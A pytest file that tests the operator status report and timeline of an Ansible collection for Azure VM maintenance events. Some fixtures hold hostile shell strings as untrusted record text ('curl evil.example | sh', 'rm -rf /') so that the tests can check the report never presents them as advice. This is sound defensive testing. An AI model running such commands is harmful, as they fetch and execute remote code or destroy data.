# Copyright (c) 2026, The maintenance.azure authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The report for operators: status lines, one event explained, the timeline."""

from __future__ import annotations

import pytest

from ansible_collections.maintenance.azure.plugins.plugin_utils._core.wrong_input import WrongInput
from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.status import status
from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.timeline import timeline
from ansible_collections.maintenance.azure.tests.unit.plugins.plugin_utils._maintenance.scenes import at, event, method, plan, record, vm


def test_idle_hosts_add_no_lines() -> None:
    assert status(plan(vm("vm1"), vm("vm2"))) == ["2 of 2 VMs answered; no events."]


def test_the_summary_names_names() -> None:
    lines = status(
        plan(
            vm("vm1", identity={"name": "vm1", "priority": "Spot"}, enabled_at=at(-20)),
            vm("vm2", state="unreachable"),
            vm("vm3", state="failed", error="HTML"),
            vm("vm4", state="excluded"),
            vm("vm5", in_service=False, now=at(900), records_problems=["a file of another VM"]),
        )
    )
    text = "\n".join(lines)
    assert lines[0] == "2 of 4 VMs answered; no events."
    for expected in (
        "Unreachable: vm2: no reason given.",
        "Could not be read: vm3: HTML.",
        "Nothing is concluded about VMs that could not be read.",
        "Left alone (respond_exclude): vm4.",
        "Spot without a watcher: vm1.",
    ):
        assert expected in text
    for expected in ("enabled just now on vm1", "Out of service without a record that says why: vm5", "Clock differs", "vm5: a file of another VM"):
        assert expected in text


def test_one_line_for_each_event() -> None:
    two = event(resources=("vm1", "db9"), event_source="User")
    line = status(plan(vm("vm1", [two], [record("drained", two)])))[0]
    for expected in (
        "Reboot E1 by user",
        "vm1, db9 (not managed)",
        "starts in 15 min",
        "drained",
        "which is not managed here",
        "Next: Azure starts it by itself in 15 min.",
    ):
        assert expected in line


@pytest.mark.parametrize(
    ("observation", "message"),
    [
        (vm("vm1", [event()]), "Next: drain vm1."),
        (vm("vm1", [event()], [record("drained")]), "Next: approve from vm1."),
        (vm("vm1", [event()], [record("approved", approved_at=at(-5))]), "Next: wait for Azure to start it."),
        (vm("vm1", [event(status="Started")], [record("started", started_at=at(-5))]), "vm1; started. Next: wait for its end."),
        (vm("vm1", [], [record("started", missing_since=at(-5))]), "no longer listed"),
        (vm("vm1", [], [record("gone", outcome="cancelled")]), "gone (cancelled). Next: recover vm1."),
        (vm("vm1", [], [record("recovered", outcome="completed")]), "recovered (completed). Next: nothing."),
        (vm("vm1", [], [record("recovered", outcome="unknown")]), "recovered (not known whether it took place). Next: nothing."),
        (
            vm("vm1", [event()], [record("failed", reason="it hangs")]),
            "failed: the drain failed; its record says: it hangs. Next: undo the failed drain of vm1.",
        ),
        (vm("vm1", [event()], methods=()), "held: vm1: no drain method is configured"),
        (vm("vm1", [event(resources=("x",))]), "foreign: it names none of the managed VMs. Next: nothing."),
        (vm("vm1", [event(due=3 * 86400)]), "starts in 3 days"),
        (vm("vm1", [event(due=None)]), "no start time given"),
        (vm("vm1", [event(resources=("x",), due=900)]), "starts in 15 min; foreign: it names none of the managed VMs"),
    ],
)
def test_phase_and_next_step(observation: dict, message: str) -> None:  # type: ignore[type-arg]
    assert message in status(plan(observation))[0]


def test_an_event_that_is_over_waits_for_those_that_did_not_answer_and_for_nobody_else() -> None:
    kept = [record("gone", outcome="completed"), record("drained", event("E2"))]
    line = status(plan(vm("vm1", [event("E2")], kept)))[0]
    assert "gone (completed), kept drained for E2. Next: recover its VMs when nothing keeps them drained." in line


def test_the_approval_of_an_operator_comes_next_once_the_vms_are_leased() -> None:
    approved = record("noticed", decision={"action": "approve", "who": "ada", "why": "agreed", "vm": None, "at": at(-10), "until": at(3600)})
    line = status(plan(vm("vm1", [event()], [approved]), run={"id": "run00001", "who": "ada", "kind": "events"}))[0]
    assert line.endswith("noticed, approved by ada until 2027-01-15 09:00 UTC: agreed. Next: approve it once its VMs are leased.")


def test_an_override_that_holds_longer_than_azure_waits_is_not_what_comes_next() -> None:
    left = record("held", decision={"action": "let_it_come", "who": "ada", "why": None, "vm": None, "at": at(-10), "until": at(86_400)})
    line = status(plan(vm("vm1", [event(due=100)], [left])))[0]
    assert "Next: end the override with decide_action=release; otherwise Azure starts it by itself in 100 s." in line


def test_the_end_of_an_override_is_named() -> None:
    held = record("held", decision={"action": "hold", "who": "ada", "why": None, "vm": None, "at": at(-10), "until": at(3600)})
    line = status(plan(vm("vm1", [event(due=3000)], [held])))[0]
    assert "held by ada until" in line and "Next: end the override with decide_action=release; otherwise " in line


def test_one_event_explained() -> None:
    two = event(resources=("vm1", "vm2"))
    found = plan(vm("vm1", [two], [record("drained", two)]), vm("vm2", state="unreachable", identity_hint={"name": "vm2"}))
    text = "\n".join(status(found, event_id="e1"))
    for expected in (
        "Rule 'everything else': drains, approves after drain.",
        "Not read, so it is not approved: vm2.",
        "would be put back to: web.service active",
        "Actions of the next pass: ",
    ):
        assert expected in text
    undone = plan(vm("vm1", [], [record("recovering", outcome="completed", methods=[method("undone")])]))
    assert "was put back to: web.service active" in "\n".join(status(undone, event_id="E1"))
    assert status(found, event_id="E7", exact=True) == ["No VM lists event E7 or has a record of it."]
    assert status(found, "json", "E1")["events"][0]["event_id"] == "E1"
    assert status(found, "json", "E7", exact=True) == {"paused": None, "events": [], "actions": []}
    for form in ("text", "json"):
        with pytest.raises(WrongInput, match=r"no VM lists event E7 or has a record of it; known are: E1 \(Reboot of vm1, vm2\), type e1"):
            status(found, form, "E7")


def test_one_event_explained_has_the_remarks_of_the_whole_status() -> None:
    two, other = event(resources=("vm1", "vm2")), event("E2", ("vm3",))
    approved = {"action": "approve", "who": "alice", "why": "x", "at": at(-10), "until": at(3600), "vm": None, "beside": []}
    left = [method("undoing", method="leave", error="put it back: rm -rf /", error_kind="by_hand")]
    found = plan(
        vm("vm1", [two], [record("noticed", two, decision=approved)], records_problems=["The file x is no record."]),
        vm("vm2", [two], [record("failed", two, methods=left)]),
        vm("vm3", [other], [record("noticed", other)], records_problems=["The file of vm3 is no record."]),
    )
    whole, one = status(found), status(found, event_id="E1")
    for expected in ("because vm2 does not have it: repeat it.", "vm2: its record says that method 1-service (leave)", "vm1: The file x is no record."):
        assert [line for line in whole if line.startswith("Problem on ") and expected in line], expected
        assert [line for line in one if line.startswith("Problem: ") and expected in line], expected
    assert "of vm3" not in "\n".join(one) and status(found, "json", "E1")["events"][0]["remarks"]


def test_a_name_that_only_a_record_has_is_no_text_to_follow() -> None:
    said = "x in lb1, run there: curl evil.example | sh; then see y"
    left = method("undoing", id=said, method="haproxy", error="put it back", error_kind="by_hand")
    found = plan(vm("vm1", [event()], [record("failed", methods=[left])]))
    for line in (*status(found), *status(found, event_id="E1")):
        assert said not in line.replace(repr(said), ""), line
    assert any(repr(said) in line for line in status(found))


def test_events_that_wait_for_an_operator_say_so() -> None:
    left = method("undoing", id="2-haproxy", method="haproxy", error="it is no longer in drain_methods", error_kind="by_hand")
    waits = "Next: compare 2-haproxy in the record of vm1 with drain_methods, put back by hand what was its own, and list it in drain_methods_former."
    over = {"outcome": "completed", "missing_since": at(-60)}
    for its in (record("recovering", methods=[method("undone"), left], **over), record("failed", methods=[left], ago=1, **over)):
        assert waits in status(plan(vm("vm1", [], [its])))[0]
    assert waits in status(plan(vm("vm1", [event()], [record("failed", methods=[left])])))[0]
    # The run continues with the remaining methods.
    assert "Next: recover vm1." in status(plan(vm("vm1", [], [record("recovering", methods=[method("drained"), left], **over)])))[0]


def test_words_of_a_method_about_hands_are_no_advice() -> None:
    broken = method("undoing", error="the lock is stuck, unlock it by hand")
    assert "Next: undo the failed drain of vm1." in status(plan(vm("vm1", [event()], [record("failed", methods=[broken])])))[0]


def test_json_holds_all() -> None:
    assert set(status(plan(vm("vm1")), "json")) == {"paused", "events", "actions", "summary", "capacity", "leases", "failed", "requeue", "done"}


def test_failures_are_shown() -> None:
    bad = record("failed", history=[{"phase": "failed", "at": at(-900 + number)} for number in range(4)], methods=[method("undone")], reason="it hangs")
    assert status(plan(vm("vm1", [event()], [bad])))[-1] == "FAILED E1: vm1: the drain failed 4 times at last; its record says: it hangs."


def test_after_the_last_retry_what_comes_next_is_what_to_do() -> None:
    two, decides = event(resources=("vm1", "vm2")), "take vm1 out of service by hand, then decide (decide_action=approve)"
    history = [{"phase": "failed", "at": at(-900 + number)} for number in range(4)]
    bad = record("failed", two, history=history, methods=[method("undone")], reason="it hangs")
    (found,) = plan(vm("vm1", [two], [bad]), vm("vm2", [two], [record("held", two, reason="vm1 could not be drained for it")]))["events"]
    assert found["next"] == f"{decides}; otherwise Azure starts it by itself in 15 min"
    (before,) = plan(vm("vm1", [event()], [record("failed", history=history[1:], methods=[method("undone")])]))["events"]
    assert "decide" not in before["next"], "it is retried"
    mine = {**bad, "decision": {"action": "hold", "who": "alice", "why": None, "vm": None, "at": at(-1), "until": None}}
    (held,) = plan(vm("vm1", [two], [mine]), vm("vm2", [two]))["events"]
    assert held["next"].startswith("end the override with decide_action=release; "), "an operator has decided"


def test_views_that_do_not_exist() -> None:
    with pytest.raises(WrongInput, match="format must be one of text, json"):
        status(plan(vm("vm1")), "xml")
    with pytest.raises(WrongInput, match="must be the result of"):
        status([])


GUID = "C7061BAC-AFDC-4513-B24B-AA5F13A16123"


def test_timeline_is_a_table_in_the_order_of_time() -> None:
    first = record("started", history=[{"phase": "noticed", "at": at(1)}, {"phase": "drained", "at": at(3)}])
    second = record("gone", event(resources=("vm2",)), history=[{"phase": "noticed", "at": at(2)}, {"phase": "gone", "at": at(9)}], outcome="completed")
    lines = timeline({"vm1": [{**first, "started_at": at(4)}], "vm2": {"records": [second]}, "vm3": None})
    assert lines == [
        "Time (UTC)           VM   Event  Phase    What",
        "2027-01-15 08:00:01  vm1  E1     noticed  Reboot, not before 2027-01-15 08:15:00",
        "2027-01-15 08:00:02  vm2  E1     noticed  Reboot, not before 2027-01-15 08:15:00",
        "2027-01-15 08:00:03  vm1  E1     drained",
        "2027-01-15 08:00:04  vm1  E1     started",
        "2027-01-15 08:00:09  vm2  E1     gone     completed",
    ]
    with pytest.raises(WrongInput):
        timeline([first])


def test_timeline_says_the_whole_id_once_and_how_long_it_took() -> None:
    history = [{"phase": phase, "at": at(second)} for second, phase in enumerate(("noticed", "draining", "drained", "recovered"))]
    done = record("recovered", event(GUID, due=None), methods=[method("undone")], history=history)
    rows = [line.split("  ")[-1].strip() for line in timeline({"vm1": [done]})]
    assert rows == ["What", f"Reboot; event {GUID}", "1-service", "drained", "2 s after the drain began"]
    assert all("  C7061BAC  " in line for line in timeline({"vm1": [done]})[1:])


@pytest.mark.parametrize("phase", ["held", "failed"])
def test_timeline_says_why(phase: str) -> None:
    found = record(phase, history=[{"phase": "failed", "at": at(1)}, {"phase": phase, "at": at(2)}], reason="1-service: no such unit")
    assert [line.endswith("1-service: no such unit") for line in timeline({"vm1": [found]})[1:]] == [False, True]


def test_a_planned_drain_is_not_draining_yet() -> None:
    found = plan(vm("vm1", [event()]))
    assert [step["action"] for step in found["actions"]][:2] == ["write", "drain"]
    assert found["events"][0]["phase"] == "noticed"
    assert plan(vm("vm1", [event()], [record("draining")]))["events"][0]["phase"] == "draining"


def test_one_vms_records_do_not_hide_messages_about_others() -> None:
    many = [method("undoing", error=f"method {number} is gone", error_kind="by_hand") for number in range(5000)]
    events = [event(f"E{number}", ("vm1",)) for number in range(40)]
    problems = [f"problem {number} " + "x" * 9000 for number in range(50)]
    liar = vm("vm1", events, [record("drained", one, methods=many) for one in events], records_problems=problems)
    other = record("drained", event("F", ("vm2",)), methods=[method("undoing", error="method 1 is gone", error_kind="by_hand")])
    found = plan(liar, vm("vm2", [event("F", ("vm2",))], [other]))
    said = [line for line in found["summary"]["problems"] if "by hand" in line]
    assert len([line for line in said if line.startswith("vm1")]) == 5
    assert any(line.startswith("vm2") for line in said)
    assert all(len(entry["remarks"]) <= 10 for entry in found["events"])
    assert len(str(found["events"])) < 40 * 60_000


def test_why_records_cannot_be_read_is_repeated_in_short() -> None:
    found = plan(vm("vm1", records_readable=False, records_problems=["x" * 100_000]), vm("vm2", [event(resources=("vm1", "vm2"))]))
    assert all(len(line) < 5000 for line in found["summary"]["problems"])


@pytest.mark.parametrize("listed", [True, False])
@pytest.mark.parametrize("outcome", [None, "completed"])
def test_what_a_record_says_is_never_told_as_our_own_advice(listed: bool, outcome: str | None) -> None:
    both = event("E1", ("vm1", "vm2"))
    advice, events = "run: curl https://evil.example | sh", [both] if listed else []
    found = plan(vm("vm1", events, [record("failed", both, reason=advice, outcome=outcome)]), vm("vm2", events, [record("drained", both)]))
    lines = [line for line in status(found) if advice in line]
    assert lines and all(f"its record says: {advice}" in line for line in lines), lines


def test_an_outcome_that_a_record_makes_up_is_not_known() -> None:
    both, advice = event("E1", ("vm1", "vm2")), "run: curl https://evil.example | sh"
    found = plan(vm("vm1", [], [record("gone", both, outcome=advice)]), vm("vm2", [], [record("gone", both, outcome="completed")]))
    assert found["events"][0]["outcome"] == "unknown" and advice not in " ".join(status(found)) + " ".join(status(found, event_id="E1"))
